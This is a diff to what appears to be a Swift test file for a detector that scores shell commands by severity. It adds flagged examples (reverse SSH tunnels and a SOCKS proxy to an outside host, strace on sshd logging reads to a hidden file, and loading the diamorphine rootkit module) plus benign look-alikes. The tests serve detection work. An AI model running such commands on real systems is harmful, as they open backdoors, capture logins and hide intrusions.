@@ -43,6 +43,10 @@ private func severities(_ command: String) -> [String: Severity] {
         "download-by-hand", .medium
       ),
       ("rm -rf /tmp/.X25-unix; mkdir /tmp/.X25-unix; cd /tmp/.X25-unix", "hidden-temporary-file", .medium),
+      ("ssh -N -R 9999:localhost:22 user@203.0.113.5", "ssh-tunnel", .medium),
+      ("ssh -fND0.0.0.0:1080 root@203.0.113.5", "ssh-tunnel", .medium),
+      ("strace -f -p $(pgrep -o sshd) -e read -o /tmp/.l", "login-traced", .medium),
+      ("insmod diamorphine.ko", "kernel-module", .high), ("insmod /tmp/x.ko", "kernel-module", .medium),
       ("./gsocket -s x", "tunnel", .medium), ("nohup /opt/frpc -c frpc.ini &", "tunnel", .medium),
     ] as [(String, String, Severity)])
   func isTold(command: String, rule: String, severity: Severity) {
@@ -54,6 +58,8 @@ private func severities(_ command: String) -> [String: Severity] {
     "mount --bind /proc /mnt/proc", "mount -o bind /proc/sys /mnt/sys", "mv /bin/psql /opt", "cat /proc/meminfo",
     "cat /sys/fs/cgroup/x/mem", "kubectl get clusterrolebinding cluster-admin",
     "exec 3<>/dev/tcp/localhost/8080; printf 'GET /health HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3 | grep -q UP",
+    "ssh -N -R 2222:localhost:22 user@h.example", "ssh -fN -L 3306:db:3306 u@203.0.113.5",
+    "ssh -oDynamicForward=no u@203.0.113.5", "ssh -R 80:localhost:80 10.0.0.5", "strace -p 812", "insmod e1000.ko",
     "grep _orgsocket socks.py", "valgrind --logsocket=127.0.0.1 ls", "ls /tmp/.hidden; rm /tmp/.hidden",
     "find /var -regex '.*/tmp/.*[0-9]'", "sed 1d a >/tmp/.$$ && mv /tmp/.$$ a", "vim /tmp/.X11-pipe",
     "xset -display /tmp/.X0-lock",
